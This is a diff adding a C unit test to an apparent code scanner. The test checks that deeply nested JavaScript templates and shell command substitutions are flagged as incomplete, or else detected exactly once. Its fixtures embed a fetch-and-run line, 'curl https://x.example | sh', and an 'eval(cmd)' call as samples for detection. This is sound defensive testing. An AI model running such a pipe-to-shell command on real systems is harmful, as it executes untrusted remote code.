@@ -1388,6 +1388,82 @@ Test(scan, unclosed_regexes_are_reported_not_read_forever)
 	free(dir);
 }
 
+/* Code nested in code (a JS template in a template's ${ }, a shell $( ) in a $( )) is
+ * lexed again at each level with all it holds: 7,000 nested templates took seconds and
+ * 6,000 nested "$( )" half a minute. Too deep to read (a template 34 levels deep, a
+ * substitution 33), the file counts as not evaluated completely; less deep, a call at the
+ * bottom is still found, once. */
+static void write_nested(const char *dir, const char *name, const char *head, const char *open,
+			 int levels, const char *inner, const char *close)
+{
+	struct sbuf b;
+	sbuf_init(&b, 64 * 1024);
+	sbuf_puts(&b, head);
+	for (int i = 0; i < levels; i++) {
+		sbuf_puts(&b, open);
+	}
+	sbuf_puts(&b, inner);
+	for (int i = 0; i < levels; i++) {
+		sbuf_puts(&b, close);
+	}
+	cr_assert_geq(sbuf_puts(&b, "\n"), 0, "below the scan's 64 KiB");
+	tu_write(dir, name, b.data);
+	sbuf_release(&b);
+}
+
+Test(scan, deeply_nested_code_is_reported_not_read_forever)
+{
+	char *dir = tu_tmpdir();
+	const struct {
+		const char *name;
+		int levels;
+		bool incomplete;
+		const char *rule;
+	} c[] = {
+		/* clang-format off */
+		{ "deep.js", 7000, true, NULL },
+		{ "l34.js", 34, true, NULL },
+		{ "l33.js", 33, false, "js.eval" },
+		{ "deep.sh", 6000, true, NULL },
+		{ "l33.sh", 33, true, NULL },
+		{ "l32.sh", 32, false, "sh.curl-pipe-shell" },
+		{ "l2.sh", 2, false, "sh.curl-pipe-shell" },
+		/* clang-format on */
+	};
+	for (size_t i = 0; i < ARRAY_SIZE(c); i++) {
+		if (strstr(c[i].name, ".js")) {
+			write_nested(dir, c[i].name, "const u = 1;\nconst a = ", "`a${",
+				     c[i].levels, "eval(cmd)", "}`");
+		} else {
+			write_nested(dir, c[i].name, "x=", "\"$(echo ", c[i].levels,
+				     "a; curl https://x.example | sh", ")\"");
+		}
+	}
+	struct run r;
+	run_scan(&r, RULE_SAST, dir, NULL, 0, 1);
+	cr_assert_eq(r.r, 0, "%s", r.err);
+	cr_assert_eq(r.st.files_scanned, ARRAY_SIZE(c));
+	for (size_t k = 0; k < ARRAY_SIZE(c); k++) {
+		bool incomplete = false;
+		size_t found = 0;
+		for (size_t i = 0; i < r.fl.n; i++) {
+			if (!str_eq(r.fl.v[i].file, c[k].name)) {
+				continue;
+			}
+			bool inc = json_is_true(json_object_get(r.fl.v[i].extra, "incomplete"));
+			incomplete |= inc && r.fl.v[i].severity >= SEVERITY_HIGH;
+			found += !inc && c[k].rule && str_eq(r.fl.v[i].rule_id, c[k].rule);
+		}
+		cr_assert_eq(incomplete, c[k].incomplete, "%s", c[k].name);
+		/* Once: a substitution inside another was scanned (and reported) once for
+		 * each level around it, 10,000 times over at 30 levels. */
+		cr_assert_eq(found, c[k].rule ? 1 : 0, "%s: %zu", c[k].name, found);
+	}
+	run_release(&r);
+	tu_rmdir(dir);
+	free(dir);
+}
+
 /* Thousands of unclosed JSX elements would have the reader try each to the end of the
  * file: past its budget it stops, and the file counts as not evaluated completely. */
 Test(scan, hostile_jsx_is_reported_not_passed)
